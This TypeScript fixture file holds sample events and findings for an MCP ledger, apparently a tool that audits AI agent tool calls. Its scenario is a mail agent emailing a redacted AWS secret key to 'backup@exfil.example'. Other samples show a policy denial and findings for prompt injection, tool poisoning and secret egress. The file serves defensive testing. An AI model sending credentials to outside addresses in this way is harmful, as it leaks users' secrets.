import { canonicalJson, chainEvents, EVENT_TYPES, hashJson, type EventType, type LedgerEvent, type UnchainedEvent } from '@mcp-ledger/events';
import type { LedgerFinding } from '../detection-finding.mapper';

/** Spec fixtures: one valid event of every type and one finding row of every kind. */

const content = (value: unknown) => {
  const body = canonicalJson(value);
  return { hash: hashJson(value), size_bytes: body.length, truncated: false, body };
};

const args = { to: 'backup@exfil.example', body: 'key: [REDACTED:aws_secret_access_key]' };
const callKey = { call_id: 'call-1', 'jsonrpc.request.id': '7', 'gen_ai.tool.name': 'send_email' };
const definition = { name: 'send_email', description: 'Sends an email' };

export const SAMPLE_DATA: { [T in EventType]: Record<string, unknown> } = {
  'session.started': {
    'mcp.session.id': 'mcp-abc',
    'mcp.protocol.version': '2025-06-18',
    client_info: { name: 'mail-agent', version: '1.0.0' },
    server_info: { name: 'mail', version: '2.1.0' },
    credentials: { env: ['SMTP_PASSWORD'] },
  },
  'session.ended': { reason: 'error', error: 'transport closed' },
  'tools.listed': {
    'mcp.method.name': 'tools/list',
    'jsonrpc.request.id': '1',
    items: [{ name: 'send_email', definition_hash: hashJson(definition), definition }],
  },
  'resources.listed': {
    'mcp.method.name': 'resources/list',
    items: [{ name: 'inbox', uri: 'mail://inbox', definition_hash: hashJson({ uri: 'mail://inbox' }), definition: { uri: 'mail://inbox' } }],
  },
  'prompts.listed': { 'mcp.method.name': 'prompts/list', cursor: 'page-2', items: [] },
  'list.changed': { 'mcp.method.name': 'notifications/tools/list_changed' },
  'tool_call.requested': {
    ...callKey,
    'mcp.method.name': 'tools/call',
    arguments: args,
    arguments_hash: hashJson(args),
    tool_definition_hash: hashJson(definition),
  },
  'tool_call.completed': { ...callKey, is_error: false, result: content({ content: [{ type: 'text', text: 'sent' }] }), duration_ms: 12.7 },
  'tool_call.failed': { ...callKey, error: { code: -32001, message: 'timed out' }, 'error.type': 'timeout', duration_ms: 30000 },
  'resource.read': { 'mcp.method.name': 'resources/read', 'mcp.resource.uri': 'mail://inbox/3', contents: content({ text: 'hi' }), duration_ms: 3 },
  'prompt.got': {
    'mcp.method.name': 'prompts/get',
    'jsonrpc.request.id': '9',
    'gen_ai.prompt.name': 'summarise',
    arguments: { style: 'short' },
    error: { code: -32602, message: 'unknown prompt' },
    duration_ms: 1,
  },
  'sampling.requested': { 'mcp.method.name': 'sampling/createMessage', 'jsonrpc.request.id': 's1', request: content({ messages: [] }) },
  'sampling.completed': { 'mcp.method.name': 'sampling/createMessage', 'jsonrpc.request.id': 's1', result: content({ text: 'ok' }), duration_ms: 900 },
  'elicitation.requested': { 'mcp.method.name': 'elicitation/create', request: content({ message: 'Your name?' }) },
  'elicitation.completed': { 'mcp.method.name': 'elicitation/create', action: 'decline', duration_ms: 4000 },
  'user.prompt': { content: content({ text: 'Summarise my inbox' }) },
  'model.turn': { content: content({ text: 'Reading your inbox' }), context_hashes: [hashJson('x')] },
  'rpc.exchanged': { 'mcp.method.name': 'ping', 'jsonrpc.request.id': '2', kind: 'request', sender: 'client', params: null, result: {}, duration_ms: 0.4 },
  'rpc.cancelled': { 'jsonrpc.request.id': '7', call_id: 'call-1', reason: 'user stop', sender: 'client' },
  'rpc.unmatched': { message: { jsonrpc: '2.0', id: 99, result: null }, sender: 'server' },
  'policy.evaluated': {
    call_id: 'call-1',
    'gen_ai.tool.name': 'send_email',
    decision: 'deny',
    policy_version: '2026-11-25.1',
    matched_rules: ['mail-to-company-only'],
    enforced: true,
    reason: 'recipient outside acme.example',
  },
  'approval.requested': {
    approval_id: 'ap-1',
    call_id: 'call-1',
    'gen_ai.tool.name': 'send_email',
    call_hash: hashJson(['send_email', args]),
    expires_at: '2026-11-25T10:05:00.000Z',
  },
  'approval.decided': {
    approval_id: 'ap-1',
    call_hash: hashJson(['send_email', args]),
    decision: 'denied',
    reviewer: { id: 'u-42', name: 'Alice' },
  },
  'finding.raised': { finding_id: 'f-1', kind: 'tool_poisoning', severity: 'critical', summary: 'hidden instructions', evidence: { score: 0.9 } },
};

/** One sealed event of every type, in one session, in `EVENT_TYPES` order. */
export function sampleEvents({ tenant = 'acme', sessionId = 'sess-1' } = {}): LedgerEvent[] {
  const start = Date.UTC(2026, 10, 25, 10, 0, 0);
  return chainEvents(
    EVENT_TYPES.map(
      (type, seq) =>
        ({
          specversion: '1.0',
          id: `0196f3a0-0000-7000-8000-${String(seq).padStart(12, '0')}`,
          type,
          time: new Date(start + seq * 1000).toISOString(),
          tenant,
          session_id: sessionId,
          seq,
          source: {
            kind: 'proxy',
            side: 'client',
            host: 'laptop-7',
            agent: 'mail-agent',
            server: { name: 'mail', version: '2.1.0' },
            transport: 'stdio',
          },
          data: SAMPLE_DATA[type],
        }) as unknown as UnchainedEvent,
    ),
  );
}

const finding = (kind: string, severity: string, evidence: unknown, callId = 'call-1'): LedgerFinding => ({
  tenant: 'acme',
  finding_id: hashJson([kind, 'acme', 'sess-1', callId]),
  kind,
  severity,
  summary: `${kind} on send_email`,
  evidence: canonicalJson(evidence),
  session_id: 'sess-1',
  call_id: callId,
  raised_at: '2026-11-25 10:00:06.000',
});

/** One finding row of every kind docs/findings.md lists, with evidence shaped as documented. */
export const SAMPLE_FINDINGS: LedgerFinding[] = [
  finding('injection_suspected', 'high', { score: 0.93, origin: 'content', sources: [{ seq: 7, content_hash: hashJson('x'), score: 0.93 }] }),
  finding('tool_poisoning', 'critical', { server: 'mail', tool: 'send_email', definition_hash: hashJson(definition), score: 0.9, findings: [] }, ''),
  finding('tool_definition_changed', 'high', {
    server: 'mail',
    tool: 'send_email',
    previous_hash: hashJson(definition),
    new_hash: hashJson('y'),
    calls_under_previous: 3,
    diff: [],
  }, ''),
  finding('policy_violation', 'medium', {
    policy_version: '1',
    decision: 'deny',
    matched_rules: ['r1'],
    risk: 'medium',
    server: 'mail',
    tool: 'send_email',
    argument_names: ['to'],
    violations: [],
  }),
  finding('sensitive_data_egress', 'high', {
    server: 'mail',
    tool: 'send_email',
    arguments: [{ name: 'body', secrets: { aws_secret_access_key: 1 }, masked_by_emitter: true }],
  }),
];
